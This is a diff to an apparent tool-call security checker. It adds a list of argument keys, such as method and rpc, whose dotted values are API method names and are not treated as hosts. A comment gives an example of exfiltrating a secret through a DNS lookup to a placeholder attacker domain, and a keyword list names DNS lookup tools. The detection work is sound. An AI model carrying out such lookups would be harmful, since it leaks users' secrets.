@@ -96,6 +96,11 @@ def sql_code(sql: SqlJudgement | None, canonical: str, text: str) -> tuple[str, 
 #: but for the actions that look a name up (``dns_lookup(name="<secret>.evil.example")``).
 _LABEL_KEYS = frozenset({"name", "title", "label", "caption", "alt", "description", "filename"})
 _NAME_LOOKUP_WORDS = frozenset({"dns", "nslookup", "dig", "whois", "traceroute", "resolve"})
+#: Keys naming the call an API tool makes (``conversations.history``, ``users.list``): a
+#: dotted method name, not a host.
+_CALL_NAME_KEYS = frozenset(
+    {"method", "operation", "op", "function", "procedure", "rpc", "api_method", "call"}
+)
 
 
 #: Key endings that name a network destination (avatar_url, callbackUri, smtp_hostname).
@@ -206,6 +211,7 @@ def _destination(value: PlainValue, scope: Scope, job: ShellJob) -> str | None:
         and "." in canonical
         and " " not in canonical.strip()
         and (key not in _LABEL_KEYS or bool(words & _NAME_LOOKUP_WORDS))
+        and key not in _CALL_NAME_KEYS  # slack_api {method: conversations.history}
         and not package_spec(key, canonical)  # pip_download {requirement: numpy==1.26.4}
     ):
         judge_url(scope, stripped, text, cwd)
